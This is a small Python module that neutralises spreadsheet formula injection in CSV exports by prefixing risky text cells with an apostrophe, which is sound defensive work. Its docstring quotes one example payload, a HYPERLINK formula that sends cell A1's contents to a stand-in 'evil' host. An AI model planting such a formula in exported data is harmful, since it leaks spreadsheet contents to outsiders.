"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula is written as text.

A model's answer or a dataset cell such as `=HYPERLINK("http://evil/?"&A1)` becomes a live formula when an export
is opened in Excel, LibreOffice or Google Sheets (OWASP "CSV injection"). The usual defence is applied: a text cell
that starts with = + - @ or a tab / carriage return gets a leading apostrophe, which spreadsheets read as "this is
text" and do not display. Numbers stay numbers, so a negative figure is not touched.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """`value` unchanged, unless it is text a spreadsheet would read as a formula: then "'" + value."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
